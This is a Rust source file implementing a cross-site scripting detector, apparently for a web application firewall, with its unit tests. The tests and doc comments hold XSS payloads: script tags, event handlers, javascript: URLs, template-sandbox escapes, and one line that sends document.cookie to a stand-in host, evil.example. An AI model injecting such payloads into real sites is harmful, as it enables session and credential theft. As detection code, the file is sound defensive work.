//! Cross-site scripting detection (`XssMatchStatement`).
//!
//! A value is cross-site scripting when a browser, rendering it where an application echoes
//! it, would run script. The value is read the way an HTML parser reads it: tags (`<` and a
//! letter) with their attributes, and the places a value lands in a page outside tags (an
//! attribute value, a script's string, a URL). It is XSS when it:
//!
//! - opens an element that runs or loads code (`<script`, `<iframe`, `<object`, `<embed`,
//!   `<applet`, `<base`, `<style`, `<link href=...`, `<meta http-equiv=...`), or closes a script
//!   (`</script>`);
//! - gives any element an event handler (`<img src=x onerror=...>`, `<svg/onload=...>`), a
//!   script URL (`href=javascript:...`, also split by whitespace or written with entities) or a
//!   scripted style (`expression(...)`, `-moz-binding`, `behavior:`);
//! - breaks out of an attribute value to add a handler (`" onmouseover="alert(1)`);
//! - breaks out of a script string to call code (`';alert(1)//`, `"-confirm(1)-"`);
//! - is a script URL itself (`javascript:alert(1)`), or a template expression that reaches
//!   the `constructor` (`{{constructor.constructor('alert(1)')()}}`).
//!
//! Text that only mentions these things ("JavaScript: a primer", "x1<x2", "a < b") has no
//! such structure and does not match.

use crate::transform::TextTransformation;

/// Whether `input` carries cross-site scripting.
pub fn is_xss(input: &[u8]) -> bool {
    if !input
        .iter()
        .any(|b| matches!(b, b'<' | b'=' | b':' | b'\'' | b'"' | b'`' | b'{' | b'('))
    {
        return false;
    }
    let lower = input.to_ascii_lowercase();
    has_active_tag(&lower)
        || attribute_breakout(&lower)
        || script_string_breakout(&lower)
        || starts_with_script_url(&lower)
        || template_injection(&lower)
}

/// How far past a tag name (or a quote) attributes are read.
const TAG_WINDOW: usize = 1024;

/// Elements that run or load code as soon as they are opened.
const ACTIVE_ELEMENTS: &[&[u8]] = &[
    b"script",
    b"iframe",
    b"frame",
    b"frameset",
    b"object",
    b"embed",
    b"applet",
    b"base",
    b"import",
    b"isindex",
    b"style",
    b"xss",
    b"portal",
    b"noembed",
];

/// Attributes whose value is a URL a browser loads or navigates to.
const URL_ATTRIBUTES: &[&[u8]] = &[
    b"href",
    b"src",
    b"action",
    b"formaction",
    b"data",
    b"xlink:href",
    b"background",
    b"dynsrc",
    b"lowsrc",
    b"poster",
    b"code",
    b"codebase",
    b"srcdoc",
    b"content",
    b"to",
    b"from",
    b"values",
    b"by",
    b"folder",
];

fn is_space(b: u8) -> bool {
    b.is_ascii_whitespace() || b == 0x0b || b == 0
}

/// Scans every `<` that starts a tag.
fn has_active_tag(lower: &[u8]) -> bool {
    let mut i = 0;
    while let Some(p) = memchr::memchr(b'<', &lower[i..]) {
        let start = i + p + 1;
        i = start;
        let closing = lower.get(start) == Some(&b'/');
        let name_start = if closing { start + 1 } else { start };
        if !lower.get(name_start).is_some_and(u8::is_ascii_alphabetic) {
            continue;
        }
        let mut end = name_start;
        while end < lower.len()
            && !is_space(lower[end])
            && !matches!(lower[end], b'/' | b'>' | b'<')
        {
            end += 1;
        }
        let name = &lower[name_start..end];
        if closing {
            if name == b"script"
                || name == b"style"
                || name == b"title" && lower[end..].starts_with(b"><script")
            {
                return true;
            }
            continue;
        }
        if ACTIVE_ELEMENTS.contains(&name) {
            return true;
        }
        // A tag's attributes are read within a bounded window, so that a value full of `<`
        // without `>` costs linear time, not quadratic.
        let window = &lower[..lower.len().min(end + TAG_WINDOW)];
        let (attributes, tag_end) = attributes(window, end, 64);
        if dangerous_attributes(name, &attributes) {
            return true;
        }
        i = tag_end.max(start);
    }
    false
}

/// An attribute's name and its value with character references decoded.
type Attribute<'a> = (&'a [u8], Vec<u8>);

/// The attributes of a tag from `i` (after its name) to its `>` (or the end of the input, as
/// a browser would take more of the page into the tag), at most `limit` of them: (name, value)
/// pairs, and where reading stopped.
fn attributes(lower: &[u8], mut i: usize, limit: usize) -> (Vec<Attribute<'_>>, usize) {
    let mut found = Vec::new();
    let n = lower.len();
    loop {
        if found.len() >= limit {
            return (found, i);
        }
        while i < n && (is_space(lower[i]) || lower[i] == b'/') {
            i += 1;
        }
        if i >= n || lower[i] == b'>' {
            return (found, i);
        }
        let name_start = i;
        while i < n && !is_space(lower[i]) && !matches!(lower[i], b'/' | b'>' | b'=') {
            i += 1;
        }
        // A quote can start an attribute name (`"onmouseover=`), which HTML ignores as a
        // character of the name.
        let name = &lower[name_start..i];
        let name = name
            .strip_prefix(b"\"")
            .or_else(|| name.strip_prefix(b"'"))
            .unwrap_or(name);
        let mut j = i;
        while j < n && is_space(lower[j]) {
            j += 1;
        }
        if j < n && lower[j] == b'=' {
            j += 1;
            while j < n && is_space(lower[j]) {
                j += 1;
            }
            let (value, after) = match lower.get(j) {
                Some(&q) if q == b'"' || q == b'\'' || q == b'`' => {
                    let close = lower[j + 1..]
                        .iter()
                        .position(|&c| c == q)
                        .map_or(n, |p| j + 1 + p);
                    (&lower[j + 1..close], (close + 1).min(n))
                }
                _ => {
                    let mut k = j;
                    while k < n && !is_space(lower[k]) && lower[k] != b'>' {
                        k += 1;
                    }
                    (&lower[j..k], k)
                }
            };
            // Browsers decode character references in attribute values.
            found.push((
                name,
                TextTransformation::HtmlEntityDecode
                    .apply(value)
                    .to_ascii_lowercase(),
            ));
            i = after;
        } else {
            found.push((name, Vec::new()));
            i = j.max(i + usize::from(i == name_start));
        }
    }
}

fn is_event_handler(name: &[u8]) -> bool {
    name.len() >= 5 && name.starts_with(b"on") && name[2..].iter().all(u8::is_ascii_alphabetic)
}

fn dangerous_attributes(element: &[u8], attributes: &[Attribute]) -> bool {
    for (name, value) in attributes {
        if is_event_handler(name) {
            return true;
        }
        if URL_ATTRIBUTES.contains(name) && is_script_url(value) {
            return true;
        }
        if *name == b"style" && scripted_style(value) {
            return true;
        }
        if element == b"meta" && *name == b"http-equiv" {
            return true;
        }
        if element == b"link" && *name == b"href" {
            return true;
        }
    }
    false
}

/// A URL with a scheme that runs script, ignoring the whitespace and control characters
/// browsers strip from URLs (`java\tscript:`).
fn is_script_url(value: &[u8]) -> bool {
    let compact: Vec<u8> = value
        .iter()
        .copied()
        .filter(|&b| b > 0x20)
        .take(32)
        .collect();
    let compact = compact.strip_prefix(b"url=").unwrap_or(&compact);
    let after_separator = compact
        .iter()
        .position(|&b| b == b';')
        .map(|p| &compact[p + 1..]);
    let script_scheme = |v: &[u8]| {
        v.starts_with(b"javascript:")
            || v.starts_with(b"vbscript:")
            || v.starts_with(b"livescript:")
            || v.starts_with(b"data:text/html")
            || v.starts_with(b"data:image/svg")
            || v.starts_with(b"data:application/x")
    };
    script_scheme(compact)
        || after_separator.is_some_and(|v| script_scheme(v.strip_prefix(b"url=").unwrap_or(v)))
}

fn scripted_style(value: &[u8]) -> bool {
    let compact: Vec<u8> = value.iter().copied().filter(|&b| !is_space(b)).collect();
    [
        &b"expression("[..],
        b"-moz-binding",
        b"behavior:",
        b"url(javascript",
        b"url('javascript",
        b"url(\"javascript",
        b"@import",
    ]
    .iter()
    .any(|p| memchr::memmem::find(&compact, p).is_some())
}

/// A quote that closes an attribute value, then a new event handler or scripted attribute:
/// `" onmouseover="alert(1)`, `' autofocus onfocus=alert(1) '`, `" style="x:expression(...)`.
fn attribute_breakout(lower: &[u8]) -> bool {
    for (q, _) in lower
        .iter()
        .enumerate()
        .filter(|(_, b)| matches!(b, b'"' | b'\'' | b'`'))
    {
        let rest = &lower[q + 1..];
        let mut i = 0;
        while i < rest.len() && (is_space(rest[i]) || rest[i] == b'/' || rest[i] == b'>') {
            i += 1;
        }
        if i == 0 && !rest.first().is_some_and(|b| b.is_ascii_alphabetic()) {
            continue;
        }
        // The handler an attacker adds comes among the first attributes after the quote.
        let (attributes, _) = attributes(&rest[..rest.len().min(i + TAG_WINDOW)], i, 4);
        let handler = attributes
            .iter()
            .any(|(name, value)| is_event_handler(name) && !value.is_empty());
        if handler
            || dangerous_attributes(b"", &attributes[..attributes.len().min(4)])
                && attributes.iter().any(|(_, v)| !v.is_empty())
        {
            return true;
        }
    }
    // An unquoted attribute context: a handler whose value calls code.
    let mut from = 0;
    while let Some(p) = memchr::memmem::find(&lower[from..], b"on") {
        let at = from + p;
        from = at + 2;
        if at > 0 && (lower[at - 1].is_ascii_alphanumeric() || lower[at - 1] == b'_') {
            continue;
        }
        let mut end = at + 2;
        while end < lower.len() && lower[end].is_ascii_alphabetic() {
            end += 1;
        }
        if end - at < 5 {
            continue;
        }
        let mut j = end;
        while j < lower.len() && is_space(lower[j]) {
            j += 1;
        }
        if lower.get(j) == Some(&b'=') && calls_code(&lower[j + 1..]) {
            return true;
        }
    }
    false
}

/// Functions and objects injected script reaches for.
const SINKS: &[&[u8]] = &[
    b"alert",
    b"confirm",
    b"prompt",
    b"eval",
    b"settimeout",
    b"setinterval",
    b"function",
    b"fetch",
    b"import",
    b"document.",
    b"window.",
    b"location",
    b"top.",
    b"self.",
    b"parent.",
    b"this.",
    b"constructor",
    b"atob",
    b"string.fromcharcode",
    b"print",
    b"open",
    b"xmlhttprequest",
    b"navigator.",
    b"localstorage",
    b"globalthis",
    b"frames",
];

/// Whether `rest` (after optional quotes, spaces and operators) calls or references a sink:
/// `alert(1)`, `alert`1``, `window.location=...`, `top['al'+'ert'](1)`.
fn calls_code(rest: &[u8]) -> bool {
    let mut i = 0;
    while i < rest.len()
        && (is_space(rest[i])
            || matches!(
                rest[i],
                b'"' | b'\'' | b'`' | b'(' | b'[' | b'+' | b'-' | b'!' | b'~' | b'{'
            ))
    {
        i += 1;
    }
    let rest = &rest[i..];
    SINKS.iter().any(|sink| {
        rest.starts_with(sink) && {
            let mut after = &rest[sink.len()..];
            // `document.cookie`, `window.location.href`: the member chain, then the use.
            while let Some(p) = after.iter().position(|b| {
                !(b.is_ascii_alphanumeric() || *b == b'_' || *b == b'$' || *b == b'.')
            }) {
                if p == 0 || !sink.ends_with(b".") && !after.starts_with(b".") {
                    break;
                }
                after = &after[p..];
            }
            let after = after
                .iter()
                .position(|b| !is_space(*b))
                .map_or(&after[after.len()..], |p| &after[p..]);
            matches!(
                after.first(),
                Some(b'(') | Some(b'`') | Some(b'=') | Some(b'[')
            ) && after.get(1) != Some(&b'=')
        }
    })
}

/// A quote that ends a script string, then an operator or statement end, then a call of a
/// sink: `';alert(1)//`, `"-confirm(1)-"`, `\";alert(1);//`, `'}alert(1);{'`.
fn script_string_breakout(lower: &[u8]) -> bool {
    for (q, _) in lower
        .iter()
        .enumerate()
        .filter(|(_, b)| matches!(b, b'"' | b'\'' | b'`'))
    {
        let rest = &lower[q + 1..];
        let mut i = 0;
        let mut separators = 0;
        while i < rest.len()
            && (is_space(rest[i])
                || matches!(
                    rest[i],
                    b';' | b'+'
                        | b'-'
                        | b'*'
                        | b'/'
                        | b'|'
                        | b'&'
                        | b','
                        | b')'
                        | b'}'
                        | b'^'
                        | b'%'
                        | b'<'
                        | b'>'
                        | b'='
                        | b'?'
                        | b':'
                ))
        {
            if !is_space(rest[i]) {
                separators += 1;
            }
            i += 1;
        }
        if separators > 0 && calls_code(&rest[i..]) {
            return true;
        }
    }
    false
}

/// A value that is itself a script URL with code after the scheme: `javascript:alert(1)`,
/// `javascript://\nalert(1)`. "JavaScript: the basics" has the scheme but no code.
fn starts_with_script_url(lower: &[u8]) -> bool {
    for scheme in [&b"javascript:"[..], b"vbscript:", b"livescript:"] {
        if let Some(after) = skip_scheme(lower, scheme) {
            let code = &lower[after..];
            // `javascript://...` comments out its first line; the code runs from the next.
            let code = if code.trim_ascii_start().starts_with(b"//") {
                code.iter()
                    .position(|&b| b == b'\n' || b == b'\r')
                    .map_or(&code[code.len()..], |p| &code[p + 1..])
            } else {
                code
            };
            return calls_code(code) || has_call(code);
        }
    }
    let compact: Vec<u8> = lower
        .iter()
        .copied()
        .filter(|&b| b > 0x20)
        .take(64)
        .collect();
    compact.starts_with(b"data:text/html")
        && (compact.starts_with(b"data:text/html;base64,") || memchr::memchr(b'<', lower).is_some())
}

/// The index after `scheme` at the start of `value`, skipping the whitespace and control
/// characters browsers ignore in a URL.
fn skip_scheme(value: &[u8], scheme: &[u8]) -> Option<usize> {
    let mut matched = 0;
    for (i, &b) in value.iter().enumerate() {
        if b <= 0x20 {
            continue;
        }
        if b != scheme[matched] {
            return None;
        }
        matched += 1;
        if matched == scheme.len() {
            return Some(i + 1);
        }
    }
    None
}

/// Any identifier immediately called: `foo(1)`, `a.b(c)`.
fn has_call(code: &[u8]) -> bool {
    code.windows(2).enumerate().any(|(i, w)| {
        (w[0].is_ascii_alphanumeric() || w[0] == b'_' || w[0] == b'$')
            && (w[1] == b'(' || w[1] == b'`')
            && code[..=i].iter().any(u8::is_ascii_alphabetic)
    })
}

/// AngularJS-style template expressions that escape the sandbox, and JS template literals
/// with calls: `{{constructor.constructor('alert(1)')()}}`, `{{$on.constructor(...)}}`,
/// `${alert(1)}`.
fn template_injection(lower: &[u8]) -> bool {
    let in_braces = |open: &[u8], close: &[u8]| {
        memchr::memmem::find_iter(lower, open).any(|at| {
            let body = &lower[at + open.len()..];
            let body = memchr::memmem::find(body, close).map_or(body, |end| &body[..end]);
            memchr::memmem::find(body, b"constructor").is_some()
                || memchr::memmem::find(body, b"$eval").is_some()
                || calls_code(body)
        })
    };
    in_braces(b"{{", b"}}") || in_braces(b"${", b"}")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn xss(input: &str) -> bool {
        is_xss(input.as_bytes())
    }

    #[test]
    fn script_and_active_elements_are_xss() {
        assert!(xss("<script>alert(1)</script>"));
        assert!(xss("<ScRipT 5-0*3+9/3=>prompt(1)</ScRipT"));
        assert!(xss("<iframe src=//evil.example>"));
        assert!(xss("</title><script>alert(1)</script>"));
        assert!(xss("\"></script><svg onload=alert(1)>"));
        assert!(xss("<object data=x>"));
    }

    #[test]
    fn event_handlers_and_script_urls_on_any_element_are_xss() {
        assert!(xss("<img src=x onerror=alert(1)>"));
        assert!(xss("<svg/onload=confirm(1)>"));
        assert!(xss("<body onload='x()'"));
        assert!(xss("<a href=\"javascript:alert(1)\">x</a>"));
        assert!(xss("<a href=\"jav&#x09;ascript:alert(1)\">x</a>"));
        assert!(xss("<a href=\"java\tscript:alert(1)\">x</a>"));
        assert!(xss("<div style=\"width:expression(alert(1))\">"));
        assert!(xss(
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"
        ));
    }

    #[test]
    fn attribute_breakouts_are_xss() {
        assert!(xss("\" onmouseover=\"alert(1)"));
        assert!(xss("' autofocus onfocus=alert(1) x='"));
        assert!(xss("x onmouseover=alert(1)"));
    }

    #[test]
    fn script_string_breakouts_are_xss() {
        assert!(xss("';alert(1)//"));
        assert!(xss("\"-confirm(1)-\""));
        assert!(xss(
            "';window.location='http://evil.example/'+document.cookie;//"
        ));
    }

    #[test]
    fn script_urls_and_template_escapes_are_xss() {
        assert!(xss("javascript:alert(1)"));
        assert!(xss("javascript://\nalert(1)"));
        assert!(xss("{{constructor.constructor('alert(1)')()}}"));
        assert!(xss(
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
        ));
    }

    #[test]
    fn many_unclosed_tags_or_quotes_take_linear_time() {
        let started = std::time::Instant::now();
        for filler in ["<a ", "\" x", "' on", "<img src=\"", "`"] {
            let input = filler.repeat(64 * 1024 / filler.len());
            let _ = is_xss(input.as_bytes());
        }
        assert!(
            started.elapsed() < std::time::Duration::from_secs(2),
            "{:?}",
            started.elapsed()
        );
    }

    #[test]
    fn prose_and_markup_without_script_is_not_xss() {
        for benign in [
            "#plain style=) ha ha",
            "We sent you an alert about your order",
            "JavaScript: a primer for beginners",
            "The cookie jar isn't empty",
            "Please confirm your address",
            "x1<x2",
            "a < b and c > d",
            "<b>bold</b> and <i>italic</i>",
            "<a href=\"https://example.com\">link</a>",
            "I'd like to open (a window) please",
            "price: 5 (five) dollars",
            "onward = forward",
            "it's time to prompt the user",
            "{{ user.name }}",
            "{\"text\":\"this.is a test\",\"next\":\"window.title\"}",
            "{\"a\":\"location\",\"b\":1}",
        ] {
            assert!(!xss(benign), "{benign}");
        }
    }
}
